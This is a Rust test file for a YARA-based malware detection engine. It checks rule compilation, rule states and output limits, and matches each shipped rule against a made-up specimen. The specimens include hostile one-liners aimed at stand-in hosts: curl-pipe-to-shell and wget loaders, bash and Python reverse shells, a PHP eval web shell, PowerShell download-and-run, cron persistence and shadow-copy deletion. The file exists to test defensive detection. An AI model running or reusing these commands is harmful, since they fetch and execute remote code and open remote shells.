//! Sets, states, limits, and the rules that are shipped.

use crate::limits::{MATCHES_MAX, PLACES_TOLD_MAX};
use crate::{Manifest, Problem, RuleSet, Rules, SetError, State, States};
use proptest::prelude::*;
use std::collections::BTreeSet;

fn set(name: &str, text: &str) -> RuleSet {
    RuleSet {
        manifest: Manifest::unnamed(name),
        files: vec![("a.yar".to_owned(), text.to_owned())],
    }
}

fn compiled(sets: Vec<RuleSet>) -> (Rules, Vec<Problem>) {
    Rules::compile(sets, States::default())
}

fn names(rules: &Rules, bytes: &[u8]) -> Vec<String> {
    let scanned = rules.scan(bytes);
    assert!(scanned.notes.is_empty(), "{:?}", scanned.notes);
    scanned.matches.iter().map(|found| format!("{}/{}", found.set, found.rule)).collect()
}

#[test]
fn a_match_tells_where_and_why() {
    let text = "rule one : tag other { meta: about = \"words\" n = 7 b = true
        strings: $a = \"needle\" $re = /ne+dle[0-9]/ condition: all of them }";
    let (rules, problems) = compiled(vec![set("house", text)]);
    assert_eq!(problems, []);
    let scanned = rules.scan(b"..needle..needle5..");
    let [found] = &scanned.matches[..] else { panic!("one: {scanned:?}") };
    assert_eq!((found.set.as_str(), found.rule.as_str()), ("house", "one"));
    assert_eq!(found.version, "unversioned");
    assert_eq!(found.tags, ["tag", "other"]);
    let meta: Vec<(String, String)> =
        found.meta.iter().map(|it| (it.name.clone(), it.value.to_string())).collect();
    let told = [("about", "words"), ("n", "7"), ("b", "true")];
    assert_eq!(meta, told.map(|(name, value)| (name.to_owned(), value.to_owned())));
    let places: Vec<(&str, u64, u64)> =
        found.places.iter().map(|it| (it.string.as_str(), it.offset, it.length)).collect();
    assert_eq!(places, [("$a", 2, 6), ("$a", 10, 6), ("$re", 10, 7)]);
    assert!(!found.noisy);
    assert!(rules.scan(b"needle").matches.is_empty());
}

#[test]
fn a_mistake_costs_no_other_file() {
    let mut broken = set("house", "rule good { condition: true }\nrule bad { condition: nothing }");
    broken.files.push(("b.yar".into(), "rule also_good { condition: true }".into()));
    broken.files.push(("c.yar".into(), "include \"/etc/passwd\"".into()));
    let (rules, problems) = compiled(vec![broken, set("house", "rule x { condition: true }")]);
    assert_eq!(names(&rules, b""), ["house/good", "house/also_good"]);
    let told: Vec<(&str, bool)> = problems.iter().map(|it| (it.file.as_str(), it.fatal)).collect();
    assert_eq!(told, [("a.yar", true), ("c.yar", true), ("set.toml", true)]);
    assert!(problems[0].message.contains("2:"), "{}", problems[0].message);
    // No rule of another's set is meant by its bare name.
    let (rules, problems) = compiled(vec![
        set("one", "rule r { condition: true }"),
        set("two", "rule r { condition: false }"),
    ]);
    assert_eq!((names(&rules, b""), problems), (vec!["one/r".to_owned()], Vec::new()));
}

#[test]
fn states_say_what_counts() {
    let mut house = set(
        "house",
        "private rule hidden { condition: true }
        rule loud { condition: hidden } rule silent { condition: true }
        rule needs { condition: silent } rule other { condition: true }",
    );
    house.manifest.noisy.insert("loud".into());
    house.manifest.off.insert("silent".into());
    let list = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
    let state = |states: States| -> Vec<(String, State)> {
        let (rules, _) = Rules::compile(vec![house.clone()], states);
        rules.list().into_iter().map(|it| (it.rule, it.state)).collect()
    };
    let expected = |states: [State; 4]| -> Vec<(String, State)> {
        let names = ["loud", "silent", "needs", "other"].map(str::to_owned);
        names.into_iter().zip(states).collect()
    };
    use State::{Noisy, Off, On};
    assert_eq!(state(States::default()), expected([Noisy, Off, On, On]));
    let own = States {
        on: list(&["house/silent"]),
        noisy: list(&["other"]),
        off: list(&["house/loud", "elsewhere/needs"]),
    };
    assert_eq!(state(own), expected([Off, On, On, Noisy]));
    let (rules, _) = compiled(vec![house.clone()]);
    let scanned = rules.scan(b"");
    let told: Vec<(&str, bool)> =
        scanned.matches.iter().map(|it| (it.rule.as_str(), it.noisy)).collect();
    assert_eq!(told, [("loud", true), ("needs", false), ("other", false)]);
}

#[test]
fn what_is_told_is_bounded() {
    let rule = |n| format!("rule r{n} {{ strings: $a = \"a\" condition: $a }}\n");
    let many: Vec<String> = (0..500).map(rule).collect();
    let (rules, problems) = compiled(vec![set("many", &many.concat())]);
    assert_eq!(problems.iter().filter(|it| it.fatal).count(), 0);
    let scanned = rules.scan(&vec![b'a'; 1 << 12]);
    assert_eq!(scanned.matches.len(), MATCHES_MAX);
    assert!(scanned.matches.iter().all(|it| it.places.len() <= PLACES_TOLD_MAX));
    assert!(scanned.notes.iter().any(|note| note.contains("only the first")), "{scanned:?}");
}

#[test]
fn a_deep_condition_is_refused() {
    let deep =
        format!("rule d {{ condition: {}true{} }}", "(".repeat(100_000), ")".repeat(100_000));
    let (rules, problems) = compiled(vec![set("deep", &deep)]);
    assert!(rules.is_empty());
    assert!(problems[0].fatal);
}

#[test]
fn manifests() {
    let good = "name = \"a-1\"\nsource = \"s\"\nversion = \"v\"\noff = [\"x\"]\n";
    let manifest = Manifest::parse(good).expect("good");
    assert_eq!(manifest.off, BTreeSet::from(["x".to_owned()]));
    for (text, toml) in [
        ("name = \"A b\"\nsource = \"s\"\nversion = \"v\"\n", false),
        ("name = \"\"\nsource = \"s\"\nversion = \"v\"\n", false),
        ("name = \"a\"\n", true),
        ("name = \"a\"\nsource = \"s\"\nversion = \"v\"\nfurther = 1\n", true),
    ] {
        let error = Manifest::parse(text).expect_err(text);
        assert_eq!(matches!(error, SetError::Toml(_)), toml, "{text}: {error}");
    }
    assert_eq!(Manifest::unnamed("My Rules").name, "my-rules");
}

/// An ELF file's beginning with strings behind it.
fn elf(strings: &[&str]) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0\x01\0\0\0".to_vec();
    bytes.resize(64, 0);
    for string in strings {
        bytes.extend(string.as_bytes());
        bytes.push(0);
    }
    bytes
}

/// A PE file's headers with named sections, and strings behind them.
fn pe(sections: &[&str], strings: &[&str]) -> Vec<u8> {
    let mut bytes = vec![0; 0x40];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x40;
    bytes.extend(b"PE\0\0\x4c\x01");
    bytes.extend((sections.len() as u16).to_le_bytes());
    bytes.extend([0; 12]);
    bytes.extend(0xe0_u16.to_le_bytes());
    bytes.extend(0x0102_u16.to_le_bytes());
    let mut optional = vec![0; 0xe0];
    optional[..2].copy_from_slice(&0x010b_u16.to_le_bytes());
    optional[92..96].copy_from_slice(&16_u32.to_le_bytes());
    bytes.extend(optional);
    for (number, name) in sections.iter().enumerate() {
        let mut section = vec![0; 40];
        section[..name.len()].copy_from_slice(name.as_bytes());
        section[8..12].copy_from_slice(&0x1000_u32.to_le_bytes());
        section[12..16].copy_from_slice(&(0x1000 * (number as u32 + 1)).to_le_bytes());
        bytes.extend(section);
    }
    for string in strings {
        bytes.extend(string.as_bytes());
        bytes.push(0);
    }
    bytes
}

/// A made-up specimen for each shipped rule.
fn specimens() -> Vec<(&'static str, Vec<u8>)> {
    let text = |text: &str| text.as_bytes().to_vec();
    let mut shortcut = b"L\0\0\0\x01\x14\x02\0".to_vec();
    shortcut.extend(b"cmd.exe /c start http://lure.example/");
    vec![
        (
            "elf_bot_killing_rivals",
            elf(&["/proc/", "/exe", "/maps", "/dev/watchdog", "/dev/misc/watchdog"]),
        ),
        (
            "elf_telnet_scanner",
            elf(&["/bin/busybox X", "X: applet not found", "ogin:", "assword", "ncorrect"]),
        ),
        ("elf_command_words_of_floods", elf(&["GETLOCALIP", "HOLD", "JUNK", "STOMP"])),
        (
            "elf_packed_by_upx",
            elf(&["UPX!", "$Info: This file is packed with the UPX executable packer $"]),
        ),
        ("pe_packed_by_upx", pe(&["UPX0", "UPX1", ".rsrc"], &[])),
        (
            "program_mines_coins",
            elf(&["stratum+tcp://pool.example:3333", "donate-level", "randomx"]),
        ),
        (
            "elf_stays_by_cron_and_profile",
            elf(&["/etc/cron.d/x", "/etc/rc.local", "authorized_keys", "* * * * * root x"]),
        ),
        (
            "pe_drops_shadow_copies",
            pe(&[".text"], &["vssadmin delete shadows /all", "bcdedit /set x"]),
        ),
        ("download_and_run", text("curl -s http://dl.example/x | sh\n")),
        (
            "loader_for_many_processors",
            text(
                "#!/bin/sh\nwget http://dl.example/arm7; chmod +x arm7; ./arm7\n\
                  wget http://dl.example/mips; wget http://dl.example/x86\n",
            ),
        ),
        ("bash_socket_to_shell", text("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")),
        (
            "python_socket_to_shell",
            text("s=socket.socket()\ns.connect((\"192.0.2.1\",1))\nos.dup2(s.fileno(),0)\n"),
        ),
        ("php_runs_what_is_sent", text("<?php @eval($_POST['x']); ?>")),
        (
            "powershell_fetches_and_runs",
            text("IEX (New-Object Net.WebClient).DownloadString('http://dl.example/a')"),
        ),
        (
            "crontab_written_by_a_script",
            text("echo '*/5 * * * * curl http://dl.example/a' > /etc/cron.d/a\n"),
        ),
        (
            "script_ends_other_miners",
            text("pkill -f kdevtmpfsi\nchattr -i /tmp/x\nkill $(pidof xmrig)\n"),
        ),
        (
            "macro_starts_by_itself_and_runs",
            text("Attribute VB_Name\nSub AutoOpen()\nCreateObject(\"WScript.Shell\").Run x\n"),
        ),
        ("pdf_runs_script_when_opened", text("%PDF-1.4\n<</OpenAction 2 0 R>> <</JS (x)>>")),
        ("rtf_with_an_equation", text("{\\rtf1{\\*\\objclass Equation.3}}")),
        (
            "page_smuggles_a_file",
            text(
                "<script>var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);\
                  a.download='x.iso';a.click()</script>",
            ),
        ),
        ("shortcut_starts_a_shell", shortcut),
    ]
}

#[test]
fn each_shipped_rule_matches_its_specimen() {
    let (rules, problems) = compiled(vec![RuleSet::shipped()]);
    assert_eq!(problems, []);
    let specimens = specimens();
    for (rule, bytes) in &specimens {
        let found = names(&rules, bytes);
        assert!(found.contains(&format!("ukai/{rule}")), "{rule}: {found:?}");
    }
    let tried: BTreeSet<&str> = specimens.iter().map(|(rule, _)| *rule).collect();
    let list = rules.list();
    let untried: Vec<&str> =
        list.iter().map(|it| it.rule.as_str()).filter(|it| !tried.contains(it)).collect();
    // A table of imports is more than a made-up header: tried below on a linker's.
    assert_eq!(untried, ["pe_injects_into_processes"]);
}

/// A program for Windows that only names what it imports, as MinGW's linker makes it.
fn linked(compiler: &str, functions: &[&str]) -> Vec<u8> {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let source = folder.path().join("a.c");
    let named: String = functions
        .iter()
        .fold(String::new(), |text, it| format!("{text}    kept = (void *){it};\n"));
    let text = format!(
        "#include <windows.h>\nvoid *volatile kept;\nint main(void) {{\n{named}    return 0;\n}}\n"
    );
    std::fs::write(&source, text).expect("a file");
    let output = std::process::Command::new(compiler)
        .args(["-s", "-O1", "-o", "a.exe", "a.c"])
        .current_dir(folder.path())
        .output()
        .unwrap_or_else(|error| panic!("{compiler}: {error}; run tools/setup.sh test"));
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    std::fs::read(folder.path().join("a.exe")).expect("a program")
}

#[test]
fn imports_that_inject_are_known_in_real_programs() {
    let (rules, _) = compiled(vec![RuleSet::shipped()]);
    let told =
        |bytes: &[u8]| names(&rules, bytes).contains(&"ukai/pe_injects_into_processes".to_owned());
    for compiler in ["x86_64-w64-mingw32-gcc", "i686-w64-mingw32-gcc"] {
        for last in ["CreateRemoteThread", "SetThreadContext", "QueueUserAPC"] {
            let program = linked(compiler, &["VirtualAllocEx", "WriteProcessMemory", last]);
            assert!(told(&program), "{compiler} {last}");
        }
        // An ordinary program, one that starts threads of its own, one that reads others.
        for functions in [
            &["GetTickCount"][..],
            &["VirtualAlloc", "CreateThread", "QueueUserAPC"],
            &["OpenProcess", "ReadProcessMemory", "VirtualAllocEx", "GetThreadContext"],
        ] {
            let program = linked(compiler, functions);
            assert!(!told(&program), "{compiler} {functions:?}");
        }
    }
}

#[test]
fn shipped_rules_are_quiet_on_this_system() {
    let (rules, _) = compiled(vec![RuleSet::shipped()]);
    let mut files = 0;
    let mut loud = Vec::new();
    for folder in ["/usr/bin", "/usr/sbin", "/etc", "/usr/share/perl5", "/usr/lib/python3.11"] {
        let Ok(entries) = std::fs::read_dir(folder) else { continue };
        for path in entries.flatten().map(|entry| entry.path()).filter(|path| path.is_file()) {
            let Ok(bytes) = std::fs::read(&path) else { continue };
            files += 1;
            let bytes = &bytes[..bytes.len().min(2 << 20)];
            let found = rules.scan(bytes).matches.into_iter().filter(|found| !found.noisy);
            loud.extend(found.map(|found| format!("{}: {}", path.display(), found.rule)));
        }
    }
    assert!(files >= 500, "{files}");
    assert!(loud.is_empty(), "{loud:#?}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn any_bytes_are_matched_in_peace(bytes in proptest::collection::vec(any::<u8>(), 0..4000)) {
        let (rules, _) = compiled(vec![RuleSet::shipped()]);
        rules.scan(&bytes);
        for head in [&b"\x7fELF\x02\x01"[..], b"MZ", b"%PDF-", b"{\\rt", b"L\0\0\0"] {
            rules.scan(&[head, &bytes].concat());
        }
    }

    #[test]
    fn any_text_is_compiled_in_peace(text in "(rule|\\{|\\}|strings:|condition:|\\$a|=|/a+/|\"x\"|[a-z ]|them|all of|\n){0,60}") {
        let (rules, problems) = compiled(vec![set("any", &text)]);
        // Either it is all rules, or it is told why not.
        let left_out = problems.iter().any(|it| it.fatal);
        prop_assert!(left_out || rules.list().len() <= text.matches("rule").count());
    }
}
